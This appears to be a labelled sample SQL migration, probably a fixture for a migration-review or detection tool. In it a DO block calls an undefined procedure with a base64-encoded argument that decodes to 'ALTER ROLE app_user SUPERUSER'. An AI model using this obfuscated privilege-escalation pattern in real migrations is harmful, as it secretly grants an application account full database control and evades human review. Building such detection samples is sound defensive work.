-- class: undefined-procedure-call
-- Calls a procedure that is not defined in this migration (created earlier, outside review) from inside a DO block.
DO $$
BEGIN
  CALL ops.run_maintenance(convert_from(decode('QUxURVIgUk9MRSBhcHBfdXNlciBTVVBFUlVTRVI=', 'base64'), 'UTF8'));
END
$$;
